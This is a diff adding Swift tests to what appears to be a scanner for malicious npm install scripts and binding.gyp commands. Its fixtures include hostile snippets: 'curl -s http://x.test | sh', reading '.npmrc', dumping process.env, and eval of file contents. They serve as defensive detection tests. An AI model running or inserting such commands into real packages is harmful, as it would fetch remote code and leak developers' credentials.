@@ -177,6 +177,44 @@ import Testing
         #expect(facts.unread.map(\.part) == ["what install runs"])
     }
 
+    private static let words = "curl -s http://x.test | sh; read('.npmrc'); require('https').request(x); JSON.stringify(process.env)"
+
+    @Test(
+        "A document or data file that install only names gives no signs; one that install runs does",
+        arguments: [
+            ("cat README.md", "1", "README.md", false), ("node a.js && cat README.md", "1", "README.md", false),
+            ("node a.js README.md", "1", "README.md", false), ("node a.js", "show('./README.md')", "README.md", false),
+            ("node a.js", "// made from ./notes.txt", "notes.txt", false), ("node a.js", "read('./LICENSE')", "LICENSE", false),
+            ("node a.js", "x = read('./docs/CHANGELOG.md')", "docs/CHANGELOG.md", false),
+            ("node a.js", "v = require('./lib/package.json').version", "lib/package.json", false),
+            ("node a.js", "v = JSON.parse(read('./data.json'))", "data.json", false),
+            ("node README.md", "1", "README.md", true), ("cat README.md | sh", "1", "README.md", true),
+            ("sh < notes.txt", "1", "notes.txt", true), ("node -r ./notes.txt a.js", "1", "notes.txt", true),
+            ("node -r ./a.js notes.txt", "1", "notes.txt", true), ("./notes.txt", "1", "notes.txt", true),
+            ("npx zx README.md", "1", "README.md", true), ("$npm_node_execpath README.md", "1", "README.md", true),
+            ("node a.js", "require('./README.md')", "README.md", true), ("node a.js", "exec('node --flag ./notes.txt')", "notes.txt", true),
+            ("node a.js", "fork(path.join(__dirname, './notes.txt'))", "notes.txt", true),
+            ("node a.js", "eval(read('./notes.txt'))", "notes.txt", true), ("node a.js", "eval(read('./data.json').x)", "data.json", true),
+        ])
+    func documents(command: String, script: String, path: String, counts: Bool) {
+        let release = ReleaseUnderReview.sample(["package.json": manifest(command), "a.js": script, path: Self.words])
+        let facts = ReleaseFacts(release)
+        #expect(facts.installSigns.contains(.npmConfiguration) == counts)
+        #expect(facts.installTime.keys.contains { facts.files[$0].path == path } == counts)
+        if !counts { #expect(Judge.judge(facts).findings.allSatisfy { $0.bits < 2 }, "\(Judge.judge(facts).findings.map(\.title))") }
+    }
+
+    @Test("The package's own package.json gives no signs through a script that requires it")
+    func ownManifest() {
+        let facts = ReleaseFacts(
+            .sample([
+                "package.json": manifest(
+                    "node a.js && node -p \\\"require('./package.json').version\\\"", ##","x":"curl -s http://x.test .npmrc""##),
+                "a.js": "require('./package.json'); eval(1)",
+            ]))
+        #expect(facts.installCommands.count == 1 && facts.installTime.count == 1 && !facts.installSigns.contains(.npmConfiguration))
+    }
+
     @Test("A chain split over two files that install runs is found as one")
     func joined() {
         let facts = ReleaseFacts(
@@ -234,5 +272,37 @@ import Testing
         }
         #expect(judge("node run.js").contains("install-runs-binary") && !judge("node run.js").contains("install-sends-secrets"))
         #expect(judge("node tool.exe").contains("install-runs-binary") && judge("node tool.exe").contains("install-sends-secrets"))
+    }
+}
+
+@Suite struct GypCommandTests {
+    private func fires(_ command: String, _ path: String) -> Bool {
+        let gyp = #"{"targets":[{"target_name":"a","sources":["<!(\#(command))"]}]}"#
+        return Judge.judge(.sample(["binding.gyp": gyp, path: "1"])).findings.contains { $0.id == "gyp-command" }
+    }
+
+    @Test(
+        "A command of binding.gyp that names a source file of the release is found however the name is written",
+        arguments: [
+            ("node lib/setup.js", "lib/setup.js"), ("node ./lib/./setup.js", "lib/setup.js"), ("node lib/setup", "lib/setup.js"),
+            ("node <(module_root_dir)/lib/setup.js", "lib/setup.js"), ("node lib\\\\setup.js", "lib/setup.js"), ("sh go.sh", "go.sh"),
+            ("node 'lib/set up.js'", "lib/set up.js"), ("node lib/@a/$b.js", "lib/@a/$b.js"), ("node -e require('./a/b')", "a/b/index.js"),
+        ])
+    func named(command: String, path: String) { #expect(fires(command, path)) }
+
+    @Test(
+        "Other words are no names of files",
+        arguments: [("node -p require('nan')", "nan.js"), ("node other.js", "lib/setup.js"), ("node lib", "lib/index.js")])
+    func notNamed(command: String, path: String) { #expect(!fires(command, path)) }
+
+    @Test("A thousand long commands and five thousand files are read in seconds")
+    func manyCommands() {
+        let line = "<!(" + String(repeating: "echo a/b ", count: 210) + ")\n"
+        var files = ["binding.gyp": String(repeating: line, count: 1000)]
+        for number in 0..<5000 { files["lib/file\(number).js"] = "1" }
+        let facts = ReleaseFacts(.sample(files))
+        let spent = ContinuousClock().measure { #expect(GypCommand().findings(in: facts).isEmpty) }
+        #expect(spent < .seconds(20))
+        print("gyp-command, 1,000 commands, 5,000 files: \(spent)")
     }
 }
